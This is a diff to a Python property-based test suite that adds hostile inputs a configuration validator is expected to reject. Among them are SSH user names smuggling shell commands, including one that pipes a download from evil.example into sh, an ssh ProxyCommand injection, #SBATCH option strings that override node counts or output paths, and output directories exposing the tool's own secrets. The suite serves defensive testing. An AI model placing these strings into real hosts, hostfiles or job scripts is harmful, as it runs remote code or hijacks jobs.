@@ -40,6 +40,9 @@ SEGMENT = st.text(alphabet="abcxyz09_-", min_size=1, max_size=6)
 BIG_TIMEOUT = st.one_of(st.integers(604801, 10**18), st.sampled_from([1e14, 1e300, float("inf")]))
 NOT_UTF8 = st.binary(min_size=1, max_size=4).filter(lambda b: not _utf8(b))
 BAD_IMAGE = st.sampled_from(["no such/IMAGE::x", "r/x:1 --privileged", "x::y", "a b", "x:y:z", "-x", "x@sha256:z"])
+BAD_USER = st.sampled_from(
+    ["$(curl${IFS}-s${IFS}evil.example|sh)", "-oProxyCommand=x", "a;b", "`id`", "u'x", "a$b", "\u00e9t\u00e9", "a|b"]
+)
 SPELLINGS = st.sampled_from(
     [str, lambda ip: str(int(ip)), lambda ip: hex(int(ip)), lambda ip: f"[::ffff:{ip}]", lambda ip: f"{ip}."]
 )
@@ -239,6 +242,18 @@ HOSTILE: dict[str, st.SearchStrategy[Any]] = {
     "hosts_url": st.sampled_from(["ssh://u@[::1", "ssh://@host", "ssh://u@[::1:22", "ssh://@10.0.0.1:22"]).map(
         lambda url: (["run", "--dry-run"], {**BASE, "hosts": [url, "ssh://x@h2"]}, "host 0", None)
     ),
+    # Review 2026-12 N15: a user name that a shell runs, printed inside the Fix commands a user pastes.
+    "hosts_user": BAD_USER.map(
+        lambda u: (["run", "--dry-run"], {**BASE, "hosts": [f"ssh://{u}@10.0.0.1", "ssh://x@h2"]}, "host 0", None)
+    ),
+    "hostfile_user": BAD_USER.map(
+        lambda u: (
+            ["run", "--dry-run", "--hostfile", "hostfile"],
+            BASE,
+            "host 1",
+            _file("hostfile", f"10.0.0.1 slots=1\n{u}@10.0.0.2 slots=1\n"),
+        )
+    ),
     "image_flag": st.tuples(NODE_ARGV, BAD_IMAGE).map(
         lambda ai: ([*ai[0][:-1], ai[1]], BASE, "is not an image reference", None)
     ),
@@ -247,8 +262,30 @@ HOSTILE: dict[str, st.SearchStrategy[Any]] = {
     "slurm_docker_host": st.sampled_from(["not a url", "http://x", "ssh://@h", "unix://rel", "tcp://"]).map(
         lambda u: (["slurm", "--dry-run"], {**BASE, "slurm": {"docker_host": u}}, "[slurm] docker_host", None)
     ),
+    # Review 2026-12 N7: sbatch splits an #SBATCH line at whitespace and reads quotes and backslashes, so an option
+    # name that is not one plain word passed the check on --nodes and then overrode it (or --output, or the tasks).
+    "sbatch_args_not_one_word": st.sampled_from(
+        [
+            "--exclusive --nodes=1",
+            "--exclusive --output=/tmp/nodekit-n7-elsewhere",
+            "--exclusive --ntasks-per-node=4",
+            "--exclusive\t--nodes=1",
+            '--"nodes"=1',
+            "--no\\des=1",
+            "--comment#x=1",
+            "--exclusive --nodes",
+        ]
+    ).map(lambda a: (["slurm", "--dry-run"], {**BASE, "slurm": {"sbatch_args": [a]}}, "sbatch_args", None)),
     "output_dir_project": st.sampled_from(["", ".", "..", "/", "./"]).flatmap(
         lambda o: _node("output_dir", output_dir=o)
+    ),
+    # Review 2026-12 N14: the job got nodekit's own state read-write at /outputs (the job secret, run records, the
+    # compose files a user runs by hand). Line 5 or 6 of the file: BASE's four keys come first.
+    "output_dir_state": st.sampled_from(
+        [".nodekit", ".nodekit/out", "./.nodekit/runs", "compose", "compose/x"]
+    ).flatmap(lambda o: _node("nodekit.toml:5: output_dir", output_dir=o)),
+    "output_dir_holds_compose": st.sampled_from([("work", "work/compose"), ("out", "out/a/b"), ("c", "c")]).flatmap(
+        lambda oc: _node("nodekit.toml:6: output_dir", compose_dir=oc[1], output_dir=oc[0])
     ),
 }
 
